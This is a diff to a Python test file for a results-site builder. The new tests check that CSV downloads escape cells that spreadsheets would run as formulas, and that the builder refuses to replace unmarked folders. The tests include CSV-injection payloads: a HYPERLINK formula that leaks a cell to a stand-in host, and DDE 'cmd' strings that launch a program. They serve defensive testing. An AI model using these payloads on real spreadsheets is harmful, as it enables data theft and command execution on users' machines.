@@ -1,6 +1,7 @@
 """The static site: pages for several results, escaping of hostile strings, safe names, downloads."""
 from __future__ import annotations
 
+import csv
 import hashlib
 import html
 import json
@@ -199,6 +200,58 @@ def test_hostile_strings_appear_only_escaped(tmp_path):
     assert logs and all(json.dumps(PAYLOAD)[1:-1] in log.read_text() for log in logs)  # as the JSON line has it
     # downloads are data files (CSV/JSON), never markup the site renders; they hold the exact text
     assert PAYLOAD in pd.read_csv(out / "runs.csv")["system"].tolist()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as fh:
+        return [value for row in csv.reader(fh) for value in row]
+
+
+def test_csv_downloads_escape_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
+    folder = tmp_path / "results"
+    folder.mkdir()
+    rng = np.random.default_rng(11)
+    for i, text in enumerate(FORMULAS):  # a submitter's strings: system, accelerator, ... (the validator accepts them)
+        doc = factories.with_strings(factories.synthetic_document("x", rng=rng, scale="smoke"), text)
+        assert leaderboard.check_document(doc) == []
+        results.write(folder / f"hostile-{i}.json", doc)
+    results.write(folder / "=cmd|' \t calc'!A0.json", factories.synthetic_document(  # a file name, also a cell
+        "synthetic-plain", rng=rng, scale="smoke"))
+    out = tmp_path / "out"
+    site.build(folder, out)
+    downloads = sorted(out.rglob("*.csv"))
+    assert {p.name for p in downloads} >= {"runs.csv", "compare.csv"} and len(downloads) > 4
+    for path in downloads:
+        for value in _csv_cells(path):
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)
+            if value.startswith("-"):
+                float(value)  # only a number starts with "-": a negative number, written as one
+    systems = pd.read_csv(out / "runs.csv")["system"].tolist()
+    assert {"'" + text for text in FORMULAS} <= set(systems)  # the exact text after the quote
+    assert "'=cmd|' \t calc'!A0.json" in pd.read_csv(out / "runs.csv")["file"].tolist()
+    raw = json.loads((out / "runs.json").read_text())  # JSON is data, not a spreadsheet: the exact text
+    assert set(FORMULAS) <= {row["system"] for row in raw}
+
+
+def test_csv_escaping_leaves_numbers_as_numbers(tmp_path):
+    frame = pd.DataFrame({"name": ["=1+1", "-x", "plain", None, "\tx", "\rx", "'quoted"],
+                          "delta": [-1.5, -2.0, 0.25, float("nan"), 3.0, -4e-9, 1.0],
+                          "count": [-3, 2, 1, 0, -1, 5, 7],
+                          "mixed": [-1.5, "-1.5", None, 2, "+x", "@x", True]})
+    tables.downloads(frame, tmp_path / "t")
+    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["name", "delta", "count", "mixed"] and len(rows) == 8  # the CR stayed inside its cell
+    assert [r[0] for r in rows[1:]] == ["'=1+1", "'-x", "plain", "", "'\tx", "'\rx", "'quoted"]
+    assert [r[1] for r in rows[1:]] == ["-1.5", "-2.0", "0.25", "", "3.0", "-4e-09", "1.0"]  # numbers as written
+    assert [r[2] for r in rows[1:]] == ["-3", "2", "1", "0", "-1", "5", "7"]
+    assert [r[3] for r in rows[1:]] == ["-1.5", "'-1.5", "", "2", "'+x", "'@x", "True"]  # a number, then a string
+    assert pd.read_csv(tmp_path / "t.csv")["delta"].tolist()[:3] == [-1.5, -2.0, 0.25]  # read back as numbers
+    assert pd.read_json(tmp_path / "t.json")["name"].tolist()[:3] == ["=1+1", "-x", "plain"]  # JSON: unchanged
 
 
 def test_file_names_are_sanitised(tmp_path):
@@ -413,21 +466,40 @@ def test_a_failed_build_leaves_the_previous_site(tmp_path, monkeypatch):
     assert sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]
 
 
-def test_a_killed_builds_folder_is_removed_and_an_older_build_is_replaced(tmp_path):
+def test_a_killed_builds_folder_is_removed_and_a_build_is_replaced(tmp_path):
     folder = tmp_path / "results"
     _one_result(folder)
     out = tmp_path / "site"
     site.build(folder, out)
-    (out / builder.MARKER).unlink()  # a build from before the marker: its own entries only
     abandoned = tmp_path / ".site.new-killed"
     (abandoned / "runs").mkdir(parents=True)
-    site.build(folder, out)
+    site.build(folder, out)  # a build (it holds the marker): replaced
     assert (out / builder.MARKER).is_file() and not abandoned.exists()
-    (out / builder.MARKER).unlink()
-    (out / "notes.txt").write_text("mine")  # not a build's: refused
-    with pytest.raises(GoodbenchError, match="not a site built by goodbench"):
-        site.build(folder, out)
-    assert (out / "notes.txt").read_text() == "mine"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]
+
+
+def test_a_folder_without_the_marker_is_never_replaced_whatever_it_holds(tmp_path, capsys):
+    folder = tmp_path / "results"
+    _one_result(folder)
+    mine = tmp_path / "mine"  # a user's own folder that looks like a site: index.html, static/, raw/
+    (mine / "static").mkdir(parents=True)
+    (mine / "raw").mkdir()
+    (mine / "index.html").write_text("<p>my page</p>")
+    (mine / "static" / "style.css").write_text("p {}")
+    (mine / "raw" / "notes.json").write_text("{}")
+    unmarked = tmp_path / "unmarked"  # a whole build, its marker removed
+    site.build(folder, unmarked)
+    (unmarked / builder.MARKER).unlink()
+    for target in (mine, unmarked):
+        before = _tree(target)
+        with pytest.raises(GoodbenchError, match="not a site built by goodbench"):
+            site.build(folder, target)
+        assert main(["site", "--results-dir", str(folder), "--out", str(target)]) == 1
+        err = capsys.readouterr().err.strip().splitlines()
+        assert len(err) == 1 and f"--out {target}: not empty and not a site built by goodbench " \
+            "(no .goodbench-site)" in err[0] and "give a new or empty folder" in err[0]
+        assert _tree(target) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine", "results", "unmarked"]  # nothing beside them
 
 
 def test_site_without_its_results_folder_is_an_error(tmp_path, capsys):
